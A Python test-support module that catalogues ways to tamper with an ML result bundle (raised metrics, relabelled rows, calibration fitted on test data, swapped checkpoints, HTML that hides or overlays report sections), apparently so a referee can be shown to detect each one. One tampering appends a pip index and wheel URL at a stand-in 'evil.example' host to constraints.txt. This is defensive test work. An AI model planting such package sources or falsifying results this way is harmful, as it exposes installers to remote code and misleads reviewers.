"""The published list: what somebody could do to a bundle, and which item tells it (docs/referee.md).

The metadata are written anew after each, unless it says that they are not: sizes and hashes alone tell nothing.
"""

from __future__ import annotations

import base64
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
from made.bundles import (
    Honest,
    better,
    first_changed,
    judged_again,
    moved_in_split,
    numbers_again,
    of_checkpoint,
    of_config,
    of_json,
    of_table,
    of_text,
    pages_again,
    replace_config,
    score_columns,
    sealed,
    stages,
)

from astrid_ml import __version__
from astrid_ml.checkpoint.digests import digest_of
from astrid_ml.checkpoint.load import read_record
from astrid_ml.referee.crate import METADATA
from astrid_ml.referee.numbers import applied
from astrid_ml.referee.opened import Bundle

ALL = ("triplets", "ramps", "light curves")
BINARY = ("triplets",)
TABLES = ("triplets", "light curves")  # a row has one label; a small run of ramps has two exposures and no interval


@dataclass(frozen=True)
class Tampering:
    """One of them.

    Args:
        what: was done.
        do: it, to a copy of an honest bundle.
        told: the item that differs without the dataset; empty where none does.
        with_data: the item that differs with it, where none does without; empty where none does.
        domains: where it can be done.
        listed: whether the metadata are written anew afterwards.
    """

    what: str
    do: Callable[[Path, Honest], None]
    told: str
    with_data: str = ""
    domains: tuple[str, ...] = ALL
    listed: bool = True


def _metric(folder: Path, _: Honest) -> None:
    def raised(metrics: dict[str, Any]) -> None:
        shares = [name for name, value in metrics.items() if isinstance(value, float) and 0 < value < 0.9]
        metrics[next(name for name in shares if name.startswith("test/"))] += 0.05

    of_json(folder, "metrics.json", raised)


def _narrowed(folder: Path, _: Honest) -> None:
    def narrowed(metrics: dict[str, Any]) -> None:
        names = [name.removesuffix("_low") for name in metrics if name.endswith("_low")]
        name = next(name for name in names if isinstance(metrics[f"{name}_low"], float))
        metrics[f"{name}_low"] = (metrics[f"{name}_low"] + metrics[f"{name}_high"]) / 2

    of_json(folder, "metrics.json", narrowed)


def _page(folder: Path, _: Honest) -> None:
    of_text(folder, "report.html", lambda text: re.sub(r"(<td[^>]*>)0\.\d+", r"\g<1>0.999", text, count=1))


def _card(folder: Path, _: Honest) -> None:
    of_text(folder, "model_card.md", lambda text: text.replace("## Read before use", "## Notes", 1))


def _score(folder: Path, _: Honest) -> None:
    def flipped(cell: Any) -> Any:
        return cell[::-1] if np.ndim(cell) else 1 - cell

    def changed(table: pd.DataFrame) -> pd.DataFrame:
        out: pd.DataFrame = first_changed(table, score_columns(table)[-1], flipped)
        return out

    of_table(folder, changed)


def _label(folder: Path, _: Honest) -> None:
    of_table(folder, _relabelled)


def _relabelled(table: pd.DataFrame) -> pd.DataFrame:
    """The first one of another class."""
    others = [value for value in table["label"].unique() if value != table["label"].iloc[0]]
    other = others[0]
    out: pd.DataFrame = first_changed(table, "label", lambda _: other)
    return out


def _label_and_numbers(folder: Path, _: Honest) -> None:
    of_table(folder, _relabelled)
    numbers_again(folder)


def _two_labels(folder: Path, _: Honest) -> None:
    """One of each class, so that the shares stay."""

    def swapped(table: pd.DataFrame) -> pd.DataFrame:
        first = table["label"].iloc[0]
        other = table.index[table["label"] != first][0]
        out = table.copy()
        out.loc[out.index[0], "label"], out.loc[other, "label"] = table["label"].loc[other], first
        return out

    of_table(folder, swapped)
    numbers_again(folder)


def _dropped(folder: Path, _: Honest) -> None:
    of_table(folder, lambda table: table[table["id"] != table["id"].iloc[0]].reset_index(drop=True))
    numbers_again(folder)


def _doubled(folder: Path, _: Honest) -> None:
    of_table(folder, lambda table: pd.concat([table, table.iloc[:1]], ignore_index=True))
    numbers_again(folder)


def _threshold(folder: Path, _: Honest) -> None:
    of_table(folder, lambda table: table.assign(threshold=table["threshold"] * 0.9))
    numbers_again(folder)


def _fitted(folder: Path, names: tuple[str, ...]) -> None:
    """Calibration (or parts of it) of the test fold, with everything that follows from it."""
    bundle = Bundle(folder)
    record = bundle.checkpoints[0][0]
    fitted = bundle.judge.fit(bundle.predictions["test"])
    made = replace_config(record, **{name: value for name, value in fitted.items() if not names or name in names})
    of_checkpoint(folder, lambda _: replace(made, calibrated=bool(made.calibration.get("calibrated", False))))
    for fold in ("val", "test"):
        of_table(folder, lambda table: applied(bundle, table, made.calibration), fold)

    def told(content: dict[str, Any]) -> None:
        known = content["calibration"]
        content["calibration"] = {name: made.calibration.get(name) for name in known}

    of_json(folder, "run.json", told)
    numbers_again(folder)


def _threshold_on_test(folder: Path, _: Honest) -> None:
    _fitted(folder, ("threshold",))


def _calibrated_on_test(folder: Path, _: Honest) -> None:
    _fitted(folder, ())


def _split(folder: Path, _: Honest) -> None:
    moved_in_split(folder)


def _group(folder: Path, _: Honest) -> None:
    from astrid_ml.checkpoint.predictions import read_predictions

    other = read_predictions(folder / "predictions/val.parquet")["group_id"].iloc[0]
    of_table(folder, lambda table: first_changed(table, "group_id", lambda _: other))


def _fingerprint(folder: Path, _: Honest) -> None:
    def told(record: dict[str, Any]) -> None:
        known = record["dataset"]["fingerprint"]
        record["dataset"]["fingerprint"] = known[::-1]

    of_json(folder, "run.json", told)


def _swapped(folder: Path, honest: Honest) -> None:
    """The network of another seed, and the stages say that it is this one's."""
    shutil.copyfile(honest.other, folder / "checkpoints/best.ckpt")
    record, weights = read_record(honest.other)
    stages(folder, "fit", weights=digest_of(dict(weights)))
    stages(folder, "calibrate", calibration=digest_of(record.calibration))


def _swapped_alone(folder: Path, honest: Honest) -> None:
    shutil.copyfile(honest.other, folder / "checkpoints/best.ckpt")


def _weights(folder: Path, _: Honest) -> None:
    def shaken(state: dict[str, Any]) -> None:
        name = next(name for name, value in state.items() if value.is_floating_point() and value.ndim > 1)
        state[name] = state[name] * 1.05

    of_checkpoint(folder, weights=shaken)


def _rate(folder: Path, _: Honest) -> None:
    of_text(folder, "config.yaml", lambda text: re.sub(r"weight_decay: \S+", "weight_decay: 0.5", text))


def _rate_everywhere(folder: Path, _: Honest) -> None:
    def other(config: dict[str, Any]) -> None:
        config["optimizer"]["lr"] *= 0.5

    of_config(folder, other)
    numbers_again(folder)


def _network(folder: Path, _: Honest) -> None:
    def other(config: dict[str, Any]) -> None:
        config["datamodule"]["batch_size"] = config["datamodule"]["batch_size"] * 2
        config["model"]["task"]["network"]["dropout"] = 0.111

    of_config(folder, other)


def _seed(folder: Path, _: Honest) -> None:
    of_config(folder, lambda config: config.update(seed=7))


def _version(folder: Path, _: Honest) -> None:
    def other(record: dict[str, Any]) -> None:
        for versions in (record["versions"], record["environment"]["versions"]):
            versions["astrid-ml"] = "9.9.9"

    of_json(folder, "run.json", other)
    of_text(folder, "constraints.txt", lambda text: text.replace(f"astrid-ml=={__version__}", "astrid-ml==9.9.9"))


def _address(folder: Path, _: Honest) -> None:
    """What pip would fetch and run."""
    evil = "--index-url https://evil.example/simple\ntorch @ https://evil.example/torch.whl\n"
    of_text(folder, "constraints.txt", lambda text: text + evil)


def _version_everywhere(folder: Path, _: Honest) -> None:
    _version(folder, _)
    of_checkpoint(folder, lambda record: replace(record, versions={**record.versions, "astrid-ml": "9.9.9"}))


def _croissant(folder: Path, _: Honest) -> None:
    of_json(folder, "dataset/croissant.json", lambda content: content.update({"rai:dataBiases": "none at all"}))


def _added(folder: Path, _: Honest) -> None:
    (folder / "predictions" / "more.parquet").write_bytes(b"x")


def _removed(folder: Path, _: Honest) -> None:
    (folder / "predictions" / "val.parquet").unlink()


def _made_up(folder: Path, _: Honest) -> None:
    judged_again(folder, better)


def _remark(folder: Path, _: Honest) -> None:
    def silenced(record: dict[str, Any]) -> None:
        record["remarks"] = {fold: said[1:] for fold, said in record["remarks"].items()}
        record["domain_of_validity"] = dict(record["domain_of_validity"] or {}, words="")

    of_json(folder, "run.json", silenced)
    pages_again(folder)


def _second_section(folder: Path, _: Honest) -> None:
    of_text(folder, "report.html", lambda text: text.replace("<section>", f"{MORE}<section>", 1))


MORE = '<section>\n<h2 id="numbers">Numbers</h2>\nAUCPR 0.999\n</section>\n'


def _labels_of_record(folder: Path, _: Honest) -> None:
    def other(record: dict[str, Any]) -> None:
        record["labels"] = {**(record["labels"] or {}), "source": "experts"}

    of_json(folder, "run.json", other)
    numbers_again(folder)


def _in_section(name: str, more: str) -> Callable[[Path, Honest], None]:
    """More markup behind the heading of a section."""

    def do(folder: Path, _: Honest) -> None:
        of_text(folder, "report.html", lambda text: re.sub(rf'(<h2 id="{name}">[^<]*</h2>)', rf"\g<1>{more}", text))

    return do


OVER_ALL = '<div style="position:absolute;top:0;background:white;width:100%">Held-out AUCPR 0.99</div>'
HIDES = "<style>#leak-audit,#numbers{display:none}</style>"


def _caption(folder: Path, _: Honest) -> None:
    """Under a picture, and what a screen reader says of it."""

    def other(text: str) -> str:
        found = re.search(r'<img [^>]*alt="([^"]*)"', text)
        assert found
        return text.replace(found[1], "confirmed by a spectrum")

    of_text(folder, "report.html", other)


def _another_picture(folder: Path, _: Honest) -> None:
    import io

    from PIL import Image

    def other(found: re.Match[str]) -> str:
        size = Image.open(io.BytesIO(base64.b64decode(found[2]))).size  # a page tells broad pictures from others
        with io.BytesIO() as stream:
            Image.new("RGB", size).save(stream, "PNG")
            return found[1] + base64.b64encode(stream.getvalue()).decode()

    pattern = r"(<figure><img [^>]*base64,)([^\"]*)"
    of_text(folder, "report.html", lambda text: re.sub(pattern, other, text, count=1))


def _epochs(folder: Path, _: Honest) -> None:
    of_json(folder, "run.json", lambda record: record.update(epochs=[200] * len(record["epochs"])))
    numbers_again(folder)


def _epochs_everywhere(folder: Path, _: Honest) -> None:
    def better_losses(rounds: Any) -> None:
        for history in rounds:
            history["val/loss"] = [0.01 for _ in history["val/loss"]]

    of_json(folder, "history.json", better_losses)
    pages_again(folder)


def _status(folder: Path, _: Honest) -> None:
    of_json(folder, "run.json", lambda record: record.update(status="failed"))


def _reviewed(folder: Path, _: Honest) -> None:
    of_json(folder, "run.json", lambda record: record.update(peer_reviewed=True))


def _machine(folder: Path, _: Honest) -> None:
    of_json(folder, "run.json", lambda record: record["environment"].update(cpus=512))


def _of_metadata(folder: Path, _: Honest) -> None:
    """The metadata alone name another dataset and another command."""

    def other(content: dict[str, Any]) -> None:
        parts = {part["@id"]: part for part in content["@graph"]}
        parts["#dataset"]["identifier"], parts["#training"]["name"] = "0" * 64, "astrid train experiment=other"

    of_json(folder, METADATA, other)


def _twice(folder: Path, _: Honest) -> None:
    """Readers take the first or the last."""

    def doubled(text: str) -> str:
        name = re.search(r'"(test/[^"]*)": 0\.\d+', text)
        assert name
        return text.replace("{", f'{{"{name[1]}": 0.999, ', 1)

    of_text(folder, "metrics.json", doubled)


def _comment(folder: Path, _: Honest) -> None:
    of_text(folder, "config.yaml", lambda text: f"seed: 7\n{text}")


def _column(folder: Path, _: Honest) -> None:
    of_table(folder, lambda table: table.assign(score_ensemble=0.99))


def _of_index(folder: Path, _: Honest) -> None:
    of_table(folder, lambda table: table.assign(source="real.fits"))


def _audit(folder: Path, _: Honest) -> None:
    def cleaned(record: dict[str, Any]) -> None:
        record["audit"]["checked"] = [*record["audit"]["checked"], "everything"]

    of_json(folder, "run.json", cleaned)
    numbers_again(folder)


TAMPERINGS = (
    Tampering("a metric in metrics.json is raised", _metric, "metrics"),
    Tampering("an interval in metrics.json is narrowed", _narrowed, "metrics", domains=TABLES),
    Tampering("a number or a sentence in report.html is changed", _page, "report"),
    Tampering("a section of another content stands in report.html too", _second_section, "report"),
    Tampering("markup over the whole page stands in Samples", _in_section("samples", OVER_ALL), "report"),
    Tampering("a style that hides sections stands in Training", _in_section("training", HIDES), "report"),
    Tampering("a caption of a picture is changed", _caption, "report"),
    Tampering("a picture of a sample is another one", _another_picture, "", "pictures"),
    Tampering("a heading of the model card is softened", _card, "card"),
    Tampering("a key stands twice in metrics.json", _twice, "metrics"),
    Tampering("a key stands twice in config.yaml", _comment, "identity"),
    Tampering("a column of other scores is added to the predictions", _column, "columns"),
    Tampering("a column that no number uses is changed", _of_index, "", "scores again"),
    Tampering("a score of the test fold is changed", _score, "metrics"),
    Tampering("a label of the test fold is changed", _label, "metrics", domains=TABLES),
    Tampering("the same, and metrics, report and card follow", _label_and_numbers, "labels", domains=BINARY),
    Tampering("two labels change places, and all numbers follow", _two_labels, "", "scores again", BINARY),
    Tampering("a sample of the test fold is dropped, and all numbers follow", _dropped, "rows"),
    Tampering("a row is doubled, and all numbers follow", _doubled, "rows", domains=TABLES),
    Tampering("the threshold of the predictions is moved", _threshold, "decisions", domains=BINARY),
    Tampering("the threshold is chosen on test, and all follows", _threshold_on_test, "calibration", domains=BINARY),
    Tampering("the calibration is fitted on test, and all follows", _calibrated_on_test, "calibration"),
    Tampering("a sample of the test fold stands in training in the split", _split, "split"),
    Tampering("a sample of the test fold gets a group of validation", _group, "groups"),
    Tampering("the record names another dataset", _fingerprint, "dataset"),
    Tampering("the checkpoint of another seed", _swapped_alone, "checkpoint"),
    Tampering("the same, and the record's digests follow", _swapped, "calibration"),
    Tampering("weights are changed, and all digests follow", _weights, "", "scores again"),
    Tampering("the configuration is changed", _rate, "identity"),
    Tampering("network and batches are changed in the configuration, and its identity follows", _network, "checkpoint"),
    Tampering("the learning rate is changed, and its identity follows", _rate_everywhere, "", ""),
    Tampering("the seed is changed, and the identity follows", _seed, "identity"),
    Tampering("the record names another version of the code", _version, "checkpoint"),
    Tampering("the same, and the network's record follows", _version_everywhere, "", ""),
    Tampering("constraints.txt gets an address", _address, "code"),
    Tampering("Croissant's account of biases is changed", _croissant, "", "data"),
    Tampering("the record says more epochs, and report and card follow", _epochs, "record"),
    Tampering("the losses of the epochs are smaller, and the report follows", _epochs_everywhere, "", ""),
    Tampering("the record says that the run failed", _status, "record"),
    Tampering("the record has a key more", _reviewed, "record"),
    Tampering("the record names another machine", _machine, "", ""),
    Tampering("the metadata name another dataset and command", _of_metadata, "metadata", listed=False),
    Tampering("remarks are taken out of the record, and report and card follow", _remark, "record"),
    Tampering("the record says other of the labels, and report and card follow", _labels_of_record, "dataset"),
    Tampering("the audit says that it checked more", _audit, "", "audit again"),
    Tampering("a file is added, and the metadata stay", _added, "files", listed=False),
    Tampering("the predictions of validation are removed", _removed, "files"),
    Tampering("a metric is raised, and the metadata stay", _metric, "files", listed=False),
    Tampering("scores that know the labels, and all numbers follow", _made_up, "", "scores again"),
)


def tampered(tampering: Tampering, honest: Honest, folder: Path) -> Path:
    """A copy of the honest bundle to which it was done."""
    shutil.copytree(honest.bundle, folder)
    tampering.do(folder, honest)
    if tampering.listed:
        sealed(folder)
    return folder
